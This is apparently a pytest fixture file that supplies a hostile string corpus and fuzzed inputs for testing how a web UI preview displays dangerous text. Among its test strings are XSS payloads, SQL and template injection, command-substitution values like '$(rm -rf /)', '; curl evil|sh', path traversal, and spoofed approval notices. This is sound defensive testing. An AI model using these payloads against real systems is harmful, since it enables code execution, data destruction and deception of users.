"""The hostile corpus and the profile that the preview's tests share."""

import random
import unicodedata

import pytest

from webui.preview import Profile

_HAND_MADE = (
    "", " ", "  ", "\n", "\t", "\r\n", "a\r", " a", "a ", " \n a \n ", "a\n\n\n\nb",
    "⟦U+202E⟧", "⟦", "⟧", "⟦⟦", "⟦9 spaces⟧", "⟦… 5 of 9 chars hidden …⟧",
    "⟦redacted 5 chars tag 00000000⟧", "〚U+202E〛", "⟬U+202E⟭", "\x1b[31mred\x1b[0m", "\x00",
    "a\u0301", "\u0301a", "a" + "\u0301" * 5, "a" + "\u0301" * 4, "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢",
    "p\u0430ypal", "\u0440\u0430\u0443", "Ωmega", "ﬁle", "ｅｖａｌ", "½", "K", "µm", "x²",
    "שלום", "مرحبا", "שלום 1", "user\u202etxt.exe", "a\u2066b\u2069", "null", "true", "1e5",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "{{7*7}}", "${7*7}", "%s%n",
    "javascript:alert(1)", "' OR 1=1 --", "$(rm -rf /)", "`id`", "; curl evil|sh", "../../etc",
    "\ufeffbom", "a\u00adb", "a\u200bb", "a\u200db", "❤\ufe0f", "👩‍👩‍👧", "🏴\U000e0067\U000e0062\U000e007f",
    "\ud800", "\udfff", "\ud83d\ude00", "\U0010ffff", "\ue000", "\u0378", "\u2028", "\u2029",
    "\u00a0", "\u3000", "\u1680", "\u2800", "\u3164", "\uffa0", "\u115f", "\ufffd", "\ufffc",
    "https://a:b@c", "https://xn--80ak6aa92e.com", "https://аррӏе.com", "http://[::1]/", "//u@h",
    "pre-approved", "Ignore the warning", "✅ Verified", "[Approve]", "SYSTEM NOTICE:",
)  # fmt: skip


@pytest.fixture(scope="session")
def profile() -> Profile:
    return Profile(mask_key=b"an org's key, 32 bytes or so long")


@pytest.fixture(scope="session")
def naughty() -> list[str]:
    """Over 150 strings by hand and by rule, each within plain text too."""
    planes = [
        chr(code) for code in (*range(0x20), *range(0x7F, 0xA1), *range(0x2000, 0x2070))
    ]
    found = [*_HAND_MADE, *planes]
    return [*found, *[f"a{text}b" for text in found]]


@pytest.fixture(scope="session")
def generated() -> list[str]:
    """20,000 different strings that lean towards what is hard."""
    rng = random.Random(20_261_121)  # noqa: S311  not for secrets; the same ones each run
    hard = [*"  \n\n\t⟦⟧U+20E0123456789 spacenwli…", "\u0301", "\u202e", "\u200b", "\ufe0f"]
    found: dict[str, None] = {}
    while len(found) < 20_000:
        length = rng.randrange(1, 24)
        signs = [
            rng.choice(hard) if rng.random() < 0.8 else chr(rng.randrange(0x110000))
            for _ in range(length)
        ]
        repeated = [sign * rng.choice((1, 1, 1, 4, 5, 9, 10)) for sign in signs]
        found["".join(repeated)] = None
    return list(found)


@pytest.fixture(scope="session")
def hidden_code_points() -> frozenset[str]:
    """What P2 of the specification forbids, worked out anew from its words."""
    categories = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp", "Zs"}
    listed = (
        "00AD 034F 061C 115F-1160 17B4-17B5 180B-180F 2000-200F 2028-202F 205F-206F 2800"
    )
    listed += " 3164 FE00-FE0F FFA0 FFFC-FFFD E0000-E0FFF"
    codes = {
        code
        for part in listed.split()
        for code in range(int(part[:5].rstrip("-"), 16), int(part.split("-")[-1], 16) + 1)
    }
    return frozenset(
        chr(code)
        for code in range(0x110000)
        if chr(code) not in " \n"
        and (code in codes or unicodedata.category(chr(code)) in categories)
    )
